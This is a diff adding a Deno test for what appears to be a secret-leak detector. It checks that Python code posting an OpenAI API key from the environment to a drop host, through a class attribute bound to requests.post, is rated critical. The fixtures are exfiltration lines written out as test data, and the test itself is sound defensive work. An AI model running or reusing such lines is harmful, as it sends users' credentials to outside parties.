@@ -3987,3 +3987,25 @@ Deno.test("a function that sends to the address it is given sends where its call
     ["info"],
   );
 });
+
+Deno.test("a Python class's attribute holding a client's function (post = requests.post, staticmethod(…)) is that function", () => {
+  const key = "os.environ['OPENAI_API_KEY']";
+  for (
+    const body of [
+      `    post = requests.post\nC.post('https://drop.com/x', data=${key})\n`,
+      `    send = staticmethod(requests.post)\nC.send('https://drop.com/x', data=${key})\n`,
+      `    send = staticmethod(requests.post)\n    def run(self):\n        self.send('https://drop.com/x', data=${key})\nC().run()\n`,
+    ]
+  ) {
+    const text = `import os, requests\nclass C:\n${body}`;
+    assert.deepEqual(secretSeverities("scripts/a.py", text), ["critical"], text);
+  }
+  // An attribute holding data is data.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      `import os\nclass C:\n    name = 'x'\n    def run(self):\n        print(self.name, ${key})\nC().run()\n`,
+    ),
+    [],
+  );
+});
